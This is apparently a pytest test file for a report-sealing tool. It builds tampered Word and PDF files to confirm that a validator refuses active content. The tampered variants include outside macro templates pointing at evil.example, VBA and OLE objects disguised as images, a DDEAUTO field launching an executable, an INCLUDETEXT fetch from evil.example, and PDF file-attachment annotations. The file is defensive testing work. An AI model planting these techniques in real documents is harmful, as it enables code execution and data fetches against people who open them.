"""The seal against a pull request's own files, and against the rules that judge reports
across quarters.

A pull request can seal a report issued before the seal existed (the shipped seed) or a
new issued report with a manifest of its own: Git is no witness for a manifest that is not
in ``HEAD`` yet, so ``issued-file-active`` is what stops an Office file that acts when
opened from being published as the official Word file. Here the manifest is written by
:func:`baocao.seal.manifest.make` over the seed's files, as such a pull request would,
with a Word file of its own (no Chromium print needed). The Word file is judged by
:mod:`baocao.seal.wordfile`: its package parsed, against an allowlist of what python-docx
writes.
"""

from __future__ import annotations

import datetime as dt
import io
import re
import shutil
import zipfile
from pathlib import Path

import pytest

from conftest import copy_repo, run_cli

FOLDER = Path("docs/reports/2025-q3")
DOCX = "bao-cao-2025-q3.docx"
TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
OLE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject"


def seal(root: Path, docx: bytes | None = None, period: str = "2025-Q3", clean: bool = True) -> None:
    """Seal the seed report (or the report of ``period``) as it stands (with ``docx`` as its
    kept Word file), as ``baocao issue --seal-existing`` would, without printing the PDF."""
    from baocao.check import run_check
    from baocao.load import sealfiles
    from baocao.periods import Period
    from baocao.seal.manifest import dump, make

    checked = run_check(root)
    assert checked.ok or not clean, checked.problems
    report = checked.archive.report(Period.parse(period))
    folder = root / "docs" / report.folder
    files = {p.name: p.read_bytes() for p in folder.glob("*.md")}
    if docx is not None:
        (folder / DOCX).write_bytes(docx)
        files[DOCX] = docx
    manifest = make(report, checked.archive, files, dt.date(2025, 10, 1))
    (folder / sealfiles.MANIFEST).write_text(dump(manifest, report.period.label), encoding="utf-8")


def office_docx(root: Path) -> bytes:
    from baocao.check import run_check
    from baocao.export.docx import to_bytes
    from baocao.periods import Period

    archive = run_check(root).archive
    return to_bytes(archive, archive.report(Period.parse("2025-Q3")))


def rewritten(docx: bytes, relationship: str, extra: dict[str, bytes] | None = None, pad: int = 0) -> bytes:
    """``docx`` with one more relationship in the main document's part (and more parts)."""
    source = zipfile.ZipFile(io.BytesIO(docx))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "word/_rels/document.xml.rels":
                data = data.replace(b"</Relationships>", relationship.encode() + b" " * pad + b"</Relationships>")
            target.writestr(item.filename, data)
        for name, data in (extra or {}).items():
            target.writestr(name, data)
    return out.getvalue()


def test_a_report_sealed_with_the_word_file_baocao_makes_passes(tmp_path):
    """The baseline: the seed sealed with the Word file baocao makes passes the check."""
    root = copy_repo(tmp_path / "repo")
    seal(root, office_docx(root))
    done = run_cli(root, "check")
    assert done.returncode == 0, done.stdout


VARIANTS = {
    # the form the check reads (passes today: the control)
    "double-quotes": f'<Relationship Id="rIdX" Type="{TEMPLATE}" Target="http://evil.example/t.dotm" '
                     'TargetMode="External"/>',
    # the same outside template, written as XML allows
    "single-quotes": f"<Relationship Id='rIdX' Type='{TEMPLATE}' Target='http://evil.example/t.dotm' "
                     "TargetMode='External'/>",
    "newline-after-name": f'<Relationship\nId="rIdX" Type="{TEMPLATE}" Target="http://evil.example/t.dotm" '
                          'TargetMode="External"/>',
    "hyperlink-in-target": f'<Relationship Id="rIdX" Type="{TEMPLATE}" '
                           'Target="http://evil.example/hyperlink/t.dotm" TargetMode="External"/>',
}


@pytest.mark.parametrize("variant", sorted(VARIANTS))
def test_a_kept_word_file_with_an_outside_template_is_refused(tmp_path, variant):
    """An outside (macro) template, however the XML of the relationship is written (quotes,
    line breaks, ``/hyperlink`` in the URL): relationships are parsed, not searched."""
    root = copy_repo(tmp_path / "repo")
    seal(root, rewritten(office_docx(root), VARIANTS[variant]))
    done = run_cli(root, "check")
    assert "[issued-file-active]" in done.stdout, done.stdout


def test_a_relationships_part_padded_past_4_mib_is_refused_not_skipped(tmp_path):
    """A relationships part padded to 4 MiB (spaces compress to nothing: a 30 kB Word file) is
    refused as too large, never skipped."""
    root = copy_repo(tmp_path / "repo")
    relationship = (f'<Relationship Id="rIdX" Type="{TEMPLATE}" Target="http://evil.example/t.dotm" '
                    'TargetMode="External"/>')
    docx = rewritten(office_docx(root), relationship, pad=4 << 20)
    assert len(docx) < 200_000
    seal(root, docx)
    done = run_cli(root, "check")
    assert "[issued-file-active]" in done.stdout, done.stdout


def test_an_embedded_object_under_another_name_is_refused(tmp_path):
    """A part's name is free: an OLE object at ``word/media/image9.bin``, related as
    ``oleObject``, is refused by its relationship's type and its content type."""
    root = copy_repo(tmp_path / "repo")
    relationship = f'<Relationship Id="rIdO" Type="{OLE}" Target="media/image9.bin"/>'
    docx = rewritten(office_docx(root), relationship, {"word/media/image9.bin": b"\xd0\xcf\x11\xe0" + bytes(508)})
    seal(root, docx)
    done = run_cli(root, "check")
    assert "[issued-file-active]" in done.stdout, done.stdout


# --- the Word file's package, judged by wordfile.active_content -----------------------------------

CFB = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)  # an OLE compound file's header
DOCUMENT = "word/document.xml"
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
PLAIN_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


@pytest.fixture(scope="module")
def made_docx(tmp_path_factory) -> bytes:
    return office_docx(copy_repo(tmp_path_factory.mktemp("docx") / "repo"))


def with_parts(docx: bytes, changes: dict[str, bytes | None] | None = None, edit=None) -> bytes:
    """``docx`` with parts replaced, added or (None) removed, and ``edit(name, data)`` applied."""
    changes = dict(changes or {})
    source = zipfile.ZipFile(io.BytesIO(docx))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = changes.pop(item.filename, source.read(item.filename))
            if data is not None:
                target.writestr(item.filename, edit(item.filename, data) if edit else data)
        for name, data in changes.items():
            target.writestr(name, data)
    return out.getvalue()


def _field_in_runs(*parts: str) -> bytes:
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{p}</w:instrText></w:r>' for p in parts)
    return (f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
            '<w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>').encode()


def _in_body(fragment: bytes):
    """Runs put at the end of the document's first paragraph."""
    return _replace_in(DOCUMENT, b"</w:p>", fragment + b"</w:p>")


def _replace_in(part: str, old: bytes, new: bytes):
    def edit(name: str, data: bytes) -> bytes:
        if name != part:
            return data
        assert old in data, (part, old)
        return data.replace(old, new, 1)
    return edit


PACKAGES = {
    # the main document declared macro-enabled: Word runs its vbaProject
    "macro-enabled-main": lambda d: with_parts(d, edit=_replace_in("[Content_Types].xml", PLAIN_MAIN.encode(),
                                                                    MACRO_MAIN.encode())),
    # a vbaProject related by its type, its part named like a picture
    "vba-project": lambda d: rewritten(d, '<Relationship Id="rIdV" Type="http://schemas.microsoft.com/office/2006/'
                                          'relationships/vbaProject" Target="media/image1.png"/>',
                                       {"word/media/image1.png": CFB}),
    # an OLE compound file declared a PNG picture, related as nothing
    "ole-as-picture": lambda d: with_parts(
        d, {"word/media/image2.png": CFB},
        edit=_replace_in("[Content_Types].xml", b"<Default Extension=\"xml\"",
                         b'<Default Extension="png" ContentType="image/png"/><Default Extension="xml"')),
    # an OLE compound file as a custom XML part
    "ole-as-custom-xml": lambda d: with_parts(d, {"customXml/item9.xml": CFB}),
    # a whole package inside the package
    "zip-in-zip": lambda d: with_parts(d, {"customXml/item8.xml": d}),
    # a DDE field that runs a program, its code split over runs
    "dde-field": lambda d: with_parts(d, edit=_in_body(_field_in_runs("DDE", "AUTO c:\\\\windows\\\\x.exe"))),
    # a field that fetches a text from outside
    "includetext-field": lambda d: with_parts(d, edit=_in_body(
        b'<w:fldSimple w:instr=" INCLUDETEXT &quot;http://evil.example/x.docx&quot; "><w:r><w:t>x</w:t></w:r>'
        b"</w:fldSimple>")),
    # an outside picture, linked, not embedded
    "external-image": lambda d: rewritten(d, '<Relationship Id="rIdI" Type="http://schemas.openxmlformats.org/'
                                             'officeDocument/2006/relationships/image" Target="http://evil.example/'
                                             'p.png" TargetMode="External"/>'),
    # a relationship to a part the file does not have
    "dangling-target": lambda d: rewritten(d, '<Relationship Id="rIdD" Type="http://schemas.openxmlformats.org/'
                                              'officeDocument/2006/relationships/footer" Target="../../footer9.xml"/>'),
    # a DTD: entities are how XML parsers are attacked
    "dtd": lambda d: with_parts(d, edit=_replace_in("word/_rels/document.xml.rels", b"<Relationships ",
                                                    b'<!DOCTYPE r [<!ENTITY a "b">]><Relationships ')),
    # two parts Word reads as one (OPC names ignore case)
    "same-name": lambda d: with_parts(d, {"Word/Document.xml": b"<x/>"}),
    # a settings part with relationships of its own: the outside template's usual place
    "settings-template": lambda d: with_parts(d, {"word/_rels/settings.xml.rels": (
        f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"<Relationship Id='rId1' Type='{TEMPLATE}' Target='file:///c:/t.dotm' TargetMode='External'/>"
        "</Relationships>").encode()}),
    # the main document's relationships under a name in capitals (OPC names ignore case)
    "rels-in-capitals": lambda d: with_parts(
        d, {"word/_rels/document.xml.rels": None,
            "word/_rels/document.xml.RELS": zipfile.ZipFile(io.BytesIO(d)).read("word/_rels/document.xml.rels")
            .replace(b"</Relationships>", f'<Relationship Id="rIdX" Type="{TEMPLATE}" Target="t.dotm" '
                                          'TargetMode="External"/></Relationships>'.encode())}),
    # a picture that is not one
    "not-a-picture": lambda d: with_parts(
        d, {"word/media/image3.png": b"<svg/>"},
        edit=_replace_in("[Content_Types].xml", b"<Default Extension=\"xml\"",
                         b'<Default Extension="png" ContentType="image/png"/><Default Extension="xml"')),
}


def test_the_word_file_baocao_makes_and_python_docx_templates_pass(made_docx):
    import docx

    from baocao.seal.wordfile import active_content

    assert active_content(made_docx) == []
    plain = docx.Document()  # the template's parts: numbering, custom XML, thumbnail...
    plain.sections[0].footer.paragraphs[0].text = "chân trang"
    out = io.BytesIO()
    plain.save(out)
    assert active_content(out.getvalue()) == []


#: What the check says of each (one phrase among those it gives).
SAID = {"macro-enabled-main": "kiểu nội dung `application/vnd.ms-word.document.macroEnabled.main+xml`",
        "vba-project": "quan hệ `vbaProject` ở word/_rels/document.xml.rels",
        "ole-as-picture": "đối tượng OLE (macro, đối tượng nhúng hoặc ActiveX) ở word/media/image2.png",
        "ole-as-custom-xml": "đối tượng OLE (macro, đối tượng nhúng hoặc ActiveX) ở customXml/item9.xml",
        "zip-in-zip": "tệp nén nhúng ở customXml/item8.xml",
        "dde-field": "trường `DDEAUTO` ở word/document.xml",
        "includetext-field": "trường `INCLUDETEXT` ở word/document.xml",
        "external-image": "liên kết ra ngoài `http://evil.example/p.png` ở word/_rels/document.xml.rels",
        "dangling-target": "quan hệ tới `../../footer9.xml` không có trong tệp (word/_rels/document.xml.rels)",
        "dtd": "khai báo DTD (word/_rels/document.xml.rels)",
        "same-name": "hai phần cùng tên Word/Document.xml",
        "settings-template": "quan hệ `attachedTemplate` ở word/_rels/settings.xml.rels",
        "rels-in-capitals": "quan hệ `attachedTemplate` ở word/_rels/document.xml.RELS",
        "not-a-picture": "phần word/media/image3.png không phải ảnh image/png"}


@pytest.mark.parametrize("variant", sorted(PACKAGES))
def test_a_word_file_with_what_python_docx_never_writes_is_refused(made_docx, variant):
    from baocao.seal.wordfile import active_content

    assert SAID[variant] in active_content(PACKAGES[variant](made_docx))


def test_a_part_too_large_is_refused_not_skipped(made_docx, monkeypatch):
    from baocao.seal import wordfile

    monkeypatch.setattr(wordfile, "MAX_PART", 1000)  # the document is 40 kB
    assert wordfile.active_content(made_docx) == ["phần word/document.xml quá lớn (hơn 0 MiB)"]


# --- the PDF, judged by fields.active_content: allowlists of actions, annotations, fields ----------


def _pdf_with(annotation: dict) -> bytes:
    from pypdf import PdfWriter
    from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject, TextStringObject

    def pdf_value(value):
        if isinstance(value, dict):
            return DictionaryObject({NameObject(k): pdf_value(v) for k, v in value.items()})
        if isinstance(value, str):
            return NameObject(value) if value.startswith("/") else TextStringObject(value)
        return FloatObject(value)

    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    annot = pdf_value({"/Type": "/Annot", "/Rect": {}, **annotation})
    annot[NameObject("/Rect")] = ArrayObject([FloatObject(v) for v in (10, 10, 100, 30)])
    page[NameObject("/Annots")] = ArrayObject([annot])
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


PDFS = {
    # actions no blocklist named: an allowlist refuses them all the same
    "go-to-3d-view": ({"/Subtype": "/Link", "/A": {"/S": "/GoTo3DView", "/V": "x"}}, "hành động /GoTo3DView"),
    "transition": ({"/Subtype": "/Link", "/A": {"/S": "/GoTo", "/D": "x", "/Next": {"/S": "/Trans"}}},
                   "hành động /Trans"),
    "screen": ({"/Subtype": "/Screen"}, "chú thích /Screen"),
    "file-attachment": ({"/Subtype": "/FileAttachment", "/FS": "x.exe"}, "chú thích /FileAttachment"),
    "text-field": ({"/Subtype": "/Widget", "/FT": "/Tx", "/T": "x"}, "trường biểu mẫu /Tx"),
}


def test_a_pdf_with_links_and_signature_fields_passes():
    from baocao.seal.fields import active_content

    assert active_content(_pdf_with({"/Subtype": "/Link", "/A": {"/S": "/URI", "/URI": "https://example.org/"}})) == []
    assert active_content(_pdf_with({"/Subtype": "/Link", "/A": {"/S": "/GoTo", "/D": "bao-cao"}})) == []
    assert active_content(_pdf_with({"/Subtype": "/Widget", "/FT": "/Sig", "/T": "ChuKyNguoiKy"})) == []


@pytest.mark.parametrize("variant", sorted(PDFS))
def test_a_pdf_with_what_chromium_never_prints_is_refused(variant):
    from baocao.seal.fields import active_content

    annotation, said = PDFS[variant]
    assert said in active_content(_pdf_with(annotation))


# --- the seal and the copied-text rule ----------------------------------------------------------


def with_quarter_before(root: Path) -> None:
    """A draft of 2025-Q2 reusing the seed's wording: a past report imported after 2025-Q3 was
    sealed (``baocao import``), or a replacement of the quarter before."""
    before = root / "docs/reports/2025-q2"
    before.mkdir()
    for path in (root / FOLDER).glob("*.md"):
        text = path.read_text(encoding="utf-8")
        if path.name == "index.md":
            text = (text.replace("period: 2025-Q3", "period: 2025-Q2").replace("status: issued", "status: draft")
                    .replace("missing_in_source: [number, issued_on]\n", "").replace("as_of: 2025-08-25", "as_of: 2025-05-25"))
        text = re.sub(r"(?m)^milestones:\n(?:  .*\n)+", "", text)  # dates of Q3 do not fit Q2
        (before / path.name).write_text(text, encoding="utf-8")


def lines_at(said: str, folder: str) -> list[str]:
    return [line for line in said.splitlines() if line.startswith(f"{folder}/")]


def test_a_sealed_reports_copied_text_is_not_judged_again(tmp_path):
    """In an issued report a section like last quarter's is an error unless it says
    ``acknowledged: true``; in a sealed one that line is refused by the seal
    (``issued-changed``) and an erratum may not touch the front matter. So a sealed report
    is not judged again when the quarter before appears after its seal: its copies were
    judged at issue (which refuses an unacknowledged copy), and the check says nothing of
    it. Not sealed, the same report still gets the error (a change it may make)."""
    root = copy_repo(tmp_path / "repo")
    with_quarter_before(root)
    unsealed = run_cli(root, "check")
    assert unsealed.returncode == 1
    assert "docs/reports/2025-q3/khac.md:8: Phần này giống quý trước 100 %" in unsealed.stdout
    shutil.rmtree(root / "docs/reports/2025-q2")
    seal(root)
    with_quarter_before(root)
    done = run_cli(root, "check")
    assert lines_at(done.stdout, FOLDER.as_posix()) == [], done.stdout
    assert done.returncode == 0, done.stdout


def test_last_quarters_end_is_judged_at_the_report_that_may_change(tmp_path):
    """A quarter's start is last quarter's end (``carried-mismatch``; the forms' A against
    last quarter's D, ``form-mismatch``). When the later report is sealed and the earlier one
    changes (a past report corrected or imported), the disagreement is said at the earlier
    report, the one that may change, never at the sealed one."""
    from sample_archive import generate

    root = tmp_path / "archive"
    first, later = generate(root, 2)
    seal(root, period=later.key)
    folder = root / "docs/reports" / first.slug
    for name in ("khac.md", "tinh-hinh-chung.md"):  # one more member at start and end: still adds up
        path = folder / name
        text = path.read_text(encoding="utf-8")
        for key in ("dang_vien_dau_ky", "dang_vien_cuoi_ky"):
            old = re.search(rf"(?m)^  {key}: (\d+)$", text)
            text = text.replace(old.group(0), f"  {key}: {int(old.group(1)) + 1}", 1)
        path.write_text(text, encoding="utf-8")
    done = run_cli(root, "check")
    assert done.returncode == 1
    assert lines_at(done.stdout, f"docs/reports/{later.slug}") == [], done.stdout
    said = lines_at(done.stdout, folder.relative_to(root).as_posix())
    assert any(line.startswith(f"docs/reports/{first.slug}/tinh-hinh-chung.md:") and "[carried-mismatch]" in line
               and "đã ban hành và niêm phong" in line for line in said), done.stdout
    assert any(line.startswith(f"docs/reports/{first.slug}/khac.md:") and "[form-mismatch]" in line
               and "dang_vien_cuoi_ky" in line for line in said), done.stdout
    # both sealed (a manifest of a pull request's own): nothing may change but by a replacement,
    # and the later report says so in a note that fails nothing
    seal(root, period=first.key, clean=False)
    done = run_cli(root, "check")
    assert lines_at(done.stdout, folder.relative_to(root).as_posix()) == [], done.stdout
    notes = lines_at(done.stdout, f"docs/reports/{later.slug}")
    assert notes and all("(lưu ý)" in line and "Hãy sửa" not in line and "phải ban hành báo cáo thay thế" in line
                         for line in notes), done.stdout
    assert done.returncode == 0, done.stdout


def _hand_issue(index: Path) -> int:
    """``status: issued``, a number and a date written by hand in a draft's ``index.md``;
    the line of ``status``."""
    lines = index.read_text(encoding="utf-8").split("\n")
    at = next(i for i, line in enumerate(lines) if line.startswith("status: draft"))
    lines[at] = "status: issued\nnumber: 52-BC/ĐU\nissued_on: 2025-12-20"
    index.write_text("\n".join(lines), encoding="utf-8")
    return at + 1


def test_a_draft_issued_by_hand_is_refused(tmp_path):
    """Issued means sealed: a committed draft turned ``status: issued`` by hand (as a pull
    request or the clerk would) was never numbered, checked and sealed by ``baocao issue``."""
    from conftest import commit_all

    root = copy_repo(tmp_path / "repo")
    assert run_cli(root, "new-quarter", "2025-Q4").returncode == 0
    commit_all(root)
    line = _hand_issue(root / "docs/reports/2025-q4/index.md")
    done = run_cli(root, "check")
    assert done.returncode == 1
    assert (f"docs/reports/2025-q4/index.md:{line}: status: Báo cáo quý IV/2025 là dự thảo trong lần gửi đang dùng "
            "(Git) và được đổi sang `status: issued` bằng tay") in done.stdout, done.stdout
    assert "`baocao issue 2025-Q4 --number <số> --date <NĂM-THÁNG-NGÀY>`" in done.stdout
    assert "[issued-by-hand]" in done.stdout


def test_an_issued_report_new_in_the_change_or_issued_at_head_is_not_judged(tmp_path):
    """A past report imported as issued (not in ``HEAD`` yet) and the seed (issued before the
    seal existed, issued at ``HEAD``) are not refused; outside Git nothing says what was a draft."""
    from conftest import commit_all

    root = copy_repo(tmp_path / "repo")
    commit_all(root)
    assert run_cli(root, "new-quarter", "2025-Q4").returncode == 0
    _hand_issue(root / "docs/reports/2025-q4/index.md")
    done = run_cli(root, "check")
    assert "[issued-by-hand]" not in done.stdout, done.stdout
    plain = copy_repo(tmp_path / "plain")
    assert run_cli(plain, "new-quarter", "2025-Q4").returncode == 0
    _hand_issue(plain / "docs/reports/2025-q4/index.md")
    assert "[issued-by-hand]" not in run_cli(plain, "check").stdout
